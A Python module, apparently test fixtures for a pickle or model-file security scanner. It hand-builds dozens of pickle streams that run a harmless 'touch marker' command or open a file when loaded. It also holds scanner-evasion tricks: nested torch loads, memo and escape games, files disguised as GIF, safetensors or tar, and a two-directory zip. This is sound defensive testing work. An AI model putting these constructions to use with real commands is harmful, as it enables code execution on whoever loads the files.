"""Hand-made pickles: payloads that would create a marker file, and the containers they come in."""

from __future__ import annotations

import io
import json
import marshal
import pickle
import struct
import tarfile
import zipfile
import zlib
from collections.abc import Callable

LEGACY_MAGIC = 0x1950A86A20F9469CFC6C
TENSORS = b"\x80\x02}q\x00."


def payloads(marker: str) -> dict[str, bytes]:
    """Streams that would run `touch marker` or the like in a real loader, one for each way to get there."""
    command = f"touch {marker}"
    text = command.encode()
    short = b"\x8c" + bytes([len(text)]) + text

    def word(value: str) -> bytes:
        return b"\x8c" + bytes([len(value)]) + value.encode()

    def line(value: str) -> bytes:
        return b"V" + value.encode() + b"\n"

    opener = f"open({marker!r}, 'w')"
    return {
        "reduce-os-system": b"\x80\x02cos\nsystem\n(" + line(command) + b"tR.",
        "posix-system": b"\x80\x02cposix\nsystem\n(" + line(command) + b"tR.",
        "nt-system": b"\x80\x02cnt\nsystem\n(" + line(command) + b"tR.",
        "subprocess": b"\x80\x02csubprocess\nPopen\n((l" + line("touch") + b"a" + line(marker) + b"atR.",
        "eval": b"\x80\x02cbuiltins\neval\n(" + line(opener) + b"tR.",
        "exec-python-2-name": b"\x80\x02c__builtin__\nexec\n(" + line(opener) + b"tR.",
        "stack-global": b"\x80\x04" + word("os") + word("system") + b"\x93" + short + b"\x85R.",
        "stack-global-memoised": b"\x80\x04"
        + word("system")
        + b"\x94"
        + word("os")
        + b"\x94h\x01h\x00\x93"
        + short
        + b"\x85R.",
        "stack-global-after-pop": b"\x80\x04"
        + word("os")
        + word("x")
        + b"0"
        + word("system")
        + b"\x93"
        + short
        + b"\x85R.",
        "stack-global-dup": b"\x80\x04" + word("os") + b"20" + word("system") + b"\x93" + short + b"\x85R.",
        "stack-global-computed": b"\x80\x04c_codecs\nencode\n"
        + word("os")
        + b"\x85R"
        + word("system")
        + b"\x93"
        + short
        + b"\x85R.",
        "inst": b"(" + line(command) + b"ios\nsystem\n.",
        "obj": b"(cos\nsystem\n" + line(command) + b"o.",
        "newobj": b"\x80\x02csubprocess\nPopen\n(" + line(command) + b"t\x81.",
        "newobj-ex": b"\x80\x04csubprocess\nPopen\n)}" + word("args") + word(command) + b"s\x92.",
        "extension-1": b"\x80\x02\x82\x01(" + line(command) + b"tR.",
        "extension-2": b"\x80\x02\x83\x01\x00(" + line(command) + b"tR.",
        "extension-4": b"\x80\x02\x84\x01\x00\x00\x00(" + line(command) + b"tR.",
        "copyreg-add-extension": b"\x80\x02ccopyreg\nadd_extension\n("
        + line("os")
        + line("system")
        + b"K\x01tR0\x82\x01("
        + line(command)
        + b"tR.",
        "getattr": b"\x80\x02cbuiltins\ngetattr\n(cbuiltins\n__import__\n("
        + line("os")
        + b"tR"
        + line("system")
        + b"tR("
        + line(command)
        + b"tR.",
        "dotted-name": b"\x80\x04" + word("torch.serialization") + word("os.system") + b"\x93" + short + b"\x85R.",
        "dotted-collections": b"\x80\x04"
        + word("collections")
        + word("_sys.modules.get")
        + b"\x93"
        + word("os")
        + b"\x85R.",
        "operator-attrgetter": b"\x80\x02coperator\nattrgetter\n("
        + line("system")
        + b"tR(cimportlib\nimport_module\n("
        + line("os")
        + b"tRtR("
        + line(command)
        + b"tR.",
        "pkgutil": b"\x80\x02cpkgutil\nresolve_name\n(" + line("os:system") + b"tR(" + line(command) + b"tR.",
        "functools-partial": b"\x80\x02cfunctools\npartial\n(cos\nsystem\n" + line(command) + b"tR)R.",
        "runpy": b"\x80\x02crunpy\n_run_code\n(" + line(opener) + b"}tR.",
        "pip": b"\x80\x02cpip\nmain\n((l" + line("install") + b"a" + line("x") + b"atR.",
        "torch-hub": b"\x80\x02ctorch.hub\nload\n(" + line("a/b") + line("c") + b"tR.",
        "torch-load": b"\x80\x02ctorch\nload\n(" + line(marker) + b"tR.",
        "numpy-runstring": b"\x80\x02cnumpy.testing._private.utils\nrunstring\n(" + line(opener) + b"}tR.",
        "unknown-library": b"\x80\x02cfriendly.helpers\nrun\n(" + line(command) + b"tR.",
        "build-on-class": b"\x80\x02ccollections\nOrderedDict\n}" + line("fromkeys") + b"cos\nsystem\nsb.",
        "build-setstate": b"\x80\x02ccollections\nOrderedDict\n)\x81}"
        + line("__setstate__")
        + b"cos\nsystem\nsb"
        + line(command)
        + b"b.",
        "defaultdict-factory": b"\x80\x02ccollections\ndefaultdict\n(cos\ngetcwd\ntR.",
        "from-type-v2": b"\x80\x02ctorch._tensor\n_rebuild_from_type_v2\n(cos\nsystem\nctorch\nTensor\n("
        + line(command)
        + b"t}tR.",
        "reconstructor": b"\x80\x02ccopy_reg\n_reconstructor\n(csubprocess\nPopen\nc__builtin__\nobject\nNtR.",
        "nested-load-from-bytes": _nested(text),
        "nested-in-the-keys": _nested_keys(text),
        "payload-then-broken": b"\x80\x02cos\nsystem\n(" + line(command) + b"tR" + b"\xff\xff\xff",
        "payload-then-cut": b"\x80\x02cos\nsystem\n(" + line(command) + b"tR",
        "second-stream": TENSORS + b"\x80\x02cos\nsystem\n(" + line(command) + b"tR.",
        "protocol-0": b"cos\nsystem\np0\n(" + line(command) + b"p1\ntp2\nRp3\n.",
        "protocol-0-hidden-in-dict": b"(dp0\nS'state_dict'\ncos\nsystem\n(" + line(command) + b"tRs.",
        "call-of-a-result": b"\x80\x02cos\nsystem\n)R(" + line(command) + b"tR.",
        "call-of-a-string": b"\x80\x02" + line("os.system") + b"(" + line(command) + b"tR.",
    }


def _nested(text: bytes) -> bytes:
    inner = b"\x80\x02cos\nsystem\n(V" + text + b"\ntR."
    return b"\x80\x03ctorch.storage\n_load_from_bytes\nB" + struct.pack("<I", len(inner)) + inner + b"\x85R."


def _nested_keys(text: bytes) -> bytes:
    """The fifth pickle of a nested old-format file is loaded too."""
    inner = (
        b"".join(pickle.dumps(value, 2) for value in (LEGACY_MAGIC, 1001, {}, {}))
        + b"cos\nsystem\n(V"
        + text
        + b"\ntR."
    )
    return b"\x80\x03ctorch.storage\n_load_from_bytes\nB" + struct.pack("<I", len(inner)) + inner + b"\x85R."


def as_zip(stream: bytes, *, root: str = "archive", name: str = "data.pkl", method: int = zipfile.ZIP_STORED) -> bytes:
    """Put a stream where torch keeps it."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", method) as archive:
        archive.writestr(f"{root}/{name}", stream)
        archive.writestr(f"{root}/version", b"3\n")
    return buffer.getvalue()


def as_legacy(stream: bytes) -> bytes:
    """Put a stream where torch's old format keeps the object."""
    head = b"".join(pickle.dumps(value, 2) for value in (LEGACY_MAGIC, 1001, {"little_endian": True}))
    return head + stream + pickle.dumps([], 2)


def as_plain(stream: bytes) -> bytes:
    return stream


CONTAINERS: dict[str, Callable[[bytes], bytes]] = {"plain": as_plain, "zip": as_zip, "legacy": as_legacy}


# --- more ways -----------------------------------------------------------------------------------------------------
NEVER_RUN_HERE = frozenset({"named-only"})
"""Of `more_payloads`: what does harm by being imported, and is not imported even to prove it."""


def _text(value: str) -> bytes:
    encoded = value.encode()
    return b"X" + struct.pack("<I", len(encoded)) + encoded


def _bytes(value: bytes) -> bytes:
    return b"B" + struct.pack("<I", len(value)) + value


def _name(module: str, name: str) -> bytes:
    return f"c{module}\n{name}\n".encode()


def _word(value: str) -> bytes:
    return b"\x8c" + bytes([len(value.encode())]) + value.encode()


def more_payloads(marker: str) -> dict[str, bytes]:
    """Streams that really make the file `marker` when Python's own pickle (with torch and numpy) loads them."""
    command, opener = f"touch {marker}", f"open({marker!r}, 'w')"
    text = _text(command)
    nested = as_legacy(b"\x80\x02" + _name("os", "system") + text + b"\x85R.")
    load = _name("torch.storage", "_load_from_bytes")
    ordered = _name("collections", "OrderedDict") + b")R"
    code = marshal.dumps(compile(opener, "x", "exec"))
    counter, modules = _name("collections", "Counter"), _name("torch.nn.modules.container", "ParameterDict")
    pair = _text("__setstate__") + load + b"\x86"
    hidden = (
        counter + _name("collections", "OrderedDict") + b"]" + pair + b"a\x85R\x85R"
    )  # Counter(OrderedDict([pair]))
    tensor = _name("torch", "Tensor")
    system = _name("os", "system")
    return {
        # all of these names are harmless one by one
        "setstate-load-from-bytes": b"\x80\x03"
        + ordered
        + b"}"
        + _text("__setstate__")
        + load
        + b"sb"
        + _bytes(nested)
        + b"b.",
        "append-load-from-bytes": b"\x80\x03"
        + ordered
        + b"}"
        + _text("append")
        + load
        + b"sb"
        + _bytes(nested)
        + b"a.",
        "add-load-from-bytes": b"\x80\x04" + ordered + b"}" + _text("add") + load + b"sb(" + _bytes(nested) + b"\x90.",
        "slots-load-from-bytes": b"\x80\x03"
        + ordered
        + b"(N}"
        + _text("__setstate__")
        + load
        + b"stb"
        + _bytes(nested)
        + b"b.",
        # ... and a state need not be a dictionary, nor an attribute come from a state
        "state-of-pairs": b"\x80\x03" + modules + b")\x81]" + pair + b"ab" + _bytes(nested) + b"b.",
        "state-of-pairs-in-a-tuple": b"\x80\x03" + modules + b")\x81" + pair + b"\x85b" + _bytes(nested) + b"b.",
        "state-of-pairs-in-a-set": b"\x80\x04" + modules + b")\x81(" + pair + b"\x91b" + _bytes(nested) + b"b.",
        "state-of-pairs-in-a-call": b"\x80\x03"
        + modules
        + b")\x81"
        + _name("builtins", "list")
        + pair
        + b"\x85\x85Rb"
        + _bytes(nested)
        + b"b.",
        "state-in-a-counter": b"\x80\x03" + counter + b")R" + hidden + b"b" + _bytes(nested) + b"b.",
        "slots-in-a-counter": b"\x80\x03" + counter + b")RN" + hidden + b"\x86b" + _bytes(nested) + b"b.",
        "attribute-by-constructor": b"\x80\x03" + modules + b"]" + pair + b"a\x85R" + _bytes(nested) + b"b.",
        "attribute-by-list": b"\x80\x03" + modules + b"(" + pair + b"l\x85R" + _bytes(nested) + b"b.",
        "attribute-by-item": b"\x80\x03" + modules + b")R" + pair[:-1] + b"s" + _bytes(nested) + b"b.",
        "from-type-of-a-set": b"\x80\x04"
        + _name("torch._tensor", "_rebuild_from_type_v2")
        + b"("
        + load
        + tensor
        + b"("
        + _bytes(nested)
        + b"\x91}tR.",
        "load-from-encoded": b"\x80\x02"
        + load
        + _name("_codecs", "encode")
        + _text(nested.decode("latin1"))
        + _text("latin1")
        + b"\x86R\x85R.",
        "load-from-bytearray": b"\x80\x05" + load + b"\x96" + struct.pack("<Q", len(nested)) + nested + b"\x85R.",
        "load-from-zip": b"\x80\x03" + load + _bytes(as_torch_zip(b"\x80\x02" + system + text + b"\x85R.")) + b"\x85R.",
        "namespace-append": b"\x80\x02"
        + _name("argparse", "Namespace")
        + b")\x81}"
        + _text("append")
        + system
        + b"sb"
        + text
        + b"a.",
        # computed
        "map-list": b"\x80\x02"
        + _name("builtins", "list")
        + _name("builtins", "map")
        + system
        + b"]"
        + text
        + b"a\x86R\x85R.",
        "str-computed-name": b"\x80\x04"
        + _name("builtins", "str")
        + _bytes(b"os")
        + _word("utf8")
        + b"\x86R"
        + _word("system")
        + b"\x93"
        + text
        + b"\x85R.",
        "methodcaller": b"\x80\x02"
        + _name("operator", "methodcaller")
        + _text("system")
        + text
        + b"\x86R"
        + _name("importlib", "import_module")
        + _text("os")
        + b"\x85R\x85R.",
        "popen-read": b"\x80\x02"
        + _name("builtins", "getattr")
        + _name("os", "popen")
        + text
        + b"\x85R"
        + _text("read")
        + b"\x86R)R.",
        "ctypes": b"\x80\x02"
        + _name("builtins", "getattr")
        + _name("ctypes", "CDLL")
        + b"N\x85R"
        + _text("system")
        + b"\x86R"
        + _name("_codecs", "encode")
        + text
        + _text("latin1")
        + b"\x86R\x85R.",
        "function-type": b"\x80\x03"
        + _name("types", "FunctionType")
        + _name("marshal", "loads")
        + _bytes(code)
        + b"\x85R"
        + _name("builtins", "globals")
        + b")R\x86R)R.",
        "exec-compile": b"\x80\x02"
        + _name("builtins", "exec")
        + _name("builtins", "compile")
        + b"("
        + _text(opener)
        + _text("x")
        + _text("exec")
        + b"tR\x85R.",
        "asyncio": b"\x80\x02"
        + _name("asyncio", "run")
        + _name("asyncio", "create_subprocess_shell")
        + text
        + b"\x85R\x85R.",
        # other doors
        "open-for-writing": b"\x80\x02" + _name("io", "open") + _text(marker) + _text("w") + b"\x86R.",
        "low-open": b"\x80\x02" + _name("_io", "open") + _text(marker) + _text("w") + b"\x86R.",
        "file-handler": b"\x80\x02" + _name("logging", "FileHandler") + _text(marker) + b"\x85R.",
        "mkdir": b"\x80\x02" + _name("os", "mkdir") + _text(marker) + b"\x85R.",
        "timeit": b"\x80\x02" + _name("timeit", "timeit") + _text("pass") + _text(opener) + b"\x86R.",
        "cprofile": b"\x80\x02" + _name("cProfile", "run") + _text(opener) + b"\x85R.",
        "posix-spawn": b"\x80\x02"
        + _name("os", "posix_spawn")
        + b"("
        + _text("/usr/bin/touch")
        + b"]("
        + _text("touch")
        + _text(marker)
        + b"e}tR.",
        "numpy-f2py": b"\x80\x02" + _name("numpy.f2py.crackfortran", "myeval") + _text(opener) + b"}}\x87R.",
        "torch-exec": b"\x80\x02"
        + _name("torch.jit.unsupported_tensor_ops", "execWrapper")
        + _text(opener)
        + b"}}\x87R.",
        "eval-dotted": b"\x80\x04" + _word("builtins") + _word("eval.__call__") + b"\x93" + _text(opener) + b"\x85R.",
        # tricks of the stream
        "frame-around-half": b"\x80\x04\x95" + struct.pack("<Q", 3) + b"NN0" + system + text + b"\x85R.",
        "proto-in-the-middle": b"\x80\x04N0\x80\x02" + system + text + b"\x85R.",
        "memo-overwritten": b"\x80\x02"
        + _text("collections")
        + b"q\x000"
        + _name("collections", "OrderedDict")
        + b"q\x010"
        + system
        + b"q\x010h\x01"
        + text
        + b"\x85R.",
        "pop-mark": b"\x80\x02" + system + b"(NNN1" + text + b"\x85R.",
        "long-binput": b"\x80\x02" + system + b"r\x00\x00\x01\x000j\x00\x00\x01\x00" + text + b"\x85R.",
        "text-put": b"\x80\x02" + system + b"p7\n0g7\n" + text + b"\x85R.",
        "unicode-escape": b"\x80\x02" + system + b"V" + command.encode().replace(b"t", b"\\u0074", 1) + b"\n\x85R.",
        "string-escape": b"cos\nsystem\n(S'" + command.encode().replace(b"t", b"\\x74", 1) + b"'\ntR.",
        "name-from-escapes": b"\x80\x04S'o\\x73'\nS'system'\n\x93" + text + b"\x85R.",
        # begins like something else
        "gif": b"GIF89a\x01\x00\x01" + system + text + b"\x85R.",
        "gguf": b"GGUF\x03\x00\x00\x00\x00" + system + text + b"\x85R.",
        "bitmap": b"BM\x00\x00\x00" + b"x" * 0x4D + system + text + b"\x85R.",
        "avif": b"\x80\x02U\x08ftypavif" + system + text + b"\x85R.",
        "beyond-the-first-look": b"B\x00\x20\x00\x00" + b"x" * 0x2000 + system + text + b"\x85R.",
        "safetensors": disguised_as_safetensors(system + text + b"\x85R."),
        "tar-and-pickle": as_tar(b"\x80\x02" + system + text + b"\x85R.", first=b"\x80\x02}."),
        "named-only": b"\x80\x02" + _name("antigravity", "fly") + b".",
    }


def as_torch_zip(stream: bytes) -> bytes:
    """Make the zip that torch.load reads."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("archive/data.pkl", stream)
        archive.writestr("archive/version", b"3\n")
        archive.writestr("archive/byteorder", b"little")
    return buffer.getvalue()


def as_two_directories(harmless: bytes, other: bytes, *, in_comment: bool) -> bytes:
    """Make a zip whose zip64 locator leads to a second directory: torch loads `other`, zipfile sees `harmless`.

    Python's zipfile takes the zip64 record right before the locator, or with none there the plain end record; torch's
    reader follows the locator. `in_comment`: the locator is the comment of the first directory's last entry.
    """
    content = bytearray()

    def directory(stream: bytes) -> bytes:
        entries = b""
        for name, data in ((b"m/data.pkl", stream), (b"m/version", b"3\n")):
            sizes = struct.pack("<IIIHH", zlib.crc32(data), len(data), len(data), len(name), 0)
            place = struct.pack("<HHHII", 0, 0, 0, 0, len(content))
            entries += struct.pack("<4s6H", b"PK\1\2", 20, 20, 0, 0, 0, 33) + sizes + place + name
            content.extend(struct.pack("<4s5H", b"PK\3\4", 20, 0, 0, 0, 33) + sizes + name + data)
        return entries

    def end64(entries: bytes) -> bytes:
        """The directory and its zip64 record."""
        return entries + struct.pack("<4sQHHIIQQQQ", b"PK\6\6", 44, 45, 45, 0, 0, 2, 2, len(entries), len(content))

    first = directory(harmless)
    second = directory(other)
    content.extend(end64(second))
    locator = struct.pack("<4sIQI", b"PK\6\7", 0, len(content) - 56, 1)
    if in_comment:
        at = len(first) - len(b"m/version") - 14  # where its last entry says how long its comment is
        first = first[:at] + struct.pack("<H", len(locator)) + first[at + 2 :]
        end = struct.pack("<4s4H2LH", b"PK\5\6", 0, 0, 2, 2, len(first + locator), len(content), 0)
        return bytes(content) + first + locator + end
    end = struct.pack("<4s4H2LH", b"PK\5\6", 0, 0, 0xFFFF, 0xFFFF, 0xFFFFFFFF, 0xFFFFFFFF, 0)
    return bytes(content) + end64(first) + locator + end


def disguised_as_safetensors(stream: bytes) -> bytes:
    """Make a valid safetensors file that is a pickle too.

    The first byte of its length is `V`, which takes a line of text: all of the header up to its only line break. The
    brace behind that makes a dictionary, and the tensor's data go on.
    """
    entry = json.dumps({"a": {"dtype": "U8", "shape": [len(stream)], "data_offsets": [0, len(stream)]}})[:-1]
    padding = (ord("V") - len(entry) - 2) % 256
    header = entry.encode() + b" " * padding + b"\n}"
    return struct.pack("<Q", len(header)) + header + stream


def as_tar(stream: bytes, first: bytes = b"") -> bytes:
    """Make torch's format of 2016; with `first`, the name of its first member is a pickle of its own."""
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w", format=tarfile.USTAR_FORMAT, encoding="latin1") as archive:
        if first:
            archive.addfile(tarfile.TarInfo(first.decode("latin1")))
        for name in ("storages", "tensors", "pickle"):
            info = tarfile.TarInfo(name)
            info.size = len(stream)
            archive.addfile(info, io.BytesIO(stream))
    return buffer.getvalue()
